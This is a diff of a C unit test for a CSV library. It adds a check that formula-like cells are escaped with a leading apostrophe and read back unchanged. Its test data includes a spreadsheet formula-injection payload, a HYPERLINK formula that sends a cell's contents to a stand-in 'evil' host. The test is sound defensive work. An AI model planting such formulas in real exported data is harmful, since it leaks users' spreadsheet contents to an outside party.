@@ -13,6 +13,7 @@
 #include <cmocka.h>
 
 #include "node/crm/csv.h"
+#include "node/csvcell.h"
 #include "node/err.h"
 
 /* Reads every record of text; returns the final code (ENT_ENOENT at a
@@ -245,6 +246,53 @@ static void test_writer_round_trip(void **state) {
     free(buf);
 }
 
+/* A cell a spreadsheet would run as a formula is written with one
+ * apostrophe in front and read back without it (node/csvcell.h); plain
+ * numbers, however signed, stay as they are. */
+static void test_formula_guard(void **state) {
+    static const struct {
+        const char *in, *out;
+    } w[] = {
+        {"=HYPERLINK(\"https://evil/?\"&A1)",
+         "\"'=HYPERLINK(\"\"https://evil/?\"\"&A1)\""},
+        {"+1+2", "'+1+2"},
+        {"-2+3", "'-2+3"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"\tcmd", "'\tcmd"},
+        {"'=x", "''=x"},
+        {"''@y", "'''@y"},
+        {"-", "'-"},
+        {"-1250.50", "-1250.50"},
+        {"+42", "+42"},
+        {"'plain", "'plain"},
+        {"a=b", "a=b"},
+        {"2026-12-05", "2026-12-05"},
+    };
+    (void)state;
+    for (size_t i = 0; i < sizeof(w) / sizeof(w[0]); i++) {
+        char *buf = NULL;
+        size_t len = 0;
+        FILE *f = open_memstream(&buf, &len);
+        const char *cell = w[i].in;
+        ent_csv *c;
+        ent_csv_row r;
+        assert_int_equal(ent_csv_write_row(f, ',', &cell, NULL, 1), ENT_OK);
+        fclose(f);
+        assert_int_equal(len, strlen(w[i].out) + 2);
+        assert_memory_equal(buf, w[i].out, len - 2);
+        ent_csv_opts o = {.sep = ','};
+        assert_int_equal(ent_csv_open_mem(&c, (uint8_t *)buf, len, "g", &o),
+                         ENT_OK);
+        assert_int_equal(ent_csv_next(c, &r), ENT_OK);
+        assert_string_equal(r.cells[0], w[i].in);
+        ent_csv_free(c);
+        free(buf);
+    }
+    assert_false(ent_csv_formula("1.", 2));
+    assert_true(ent_csv_formula("-1.", 3));
+    assert_false(ent_csv_formula("", 0));
+}
+
 /* Old Mac exports end lines with a lone CR; a CRLF may be cut by a read.
  * Lines count the same either way. */
 static void test_cr_line_ends(void **state) {
@@ -326,6 +374,7 @@ int main(void) {
         cmocka_unit_test(test_stream_across_buffers),
         cmocka_unit_test(test_bad_input),
         cmocka_unit_test(test_writer_round_trip),
+        cmocka_unit_test(test_formula_guard),
         cmocka_unit_test(test_cr_line_ends),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
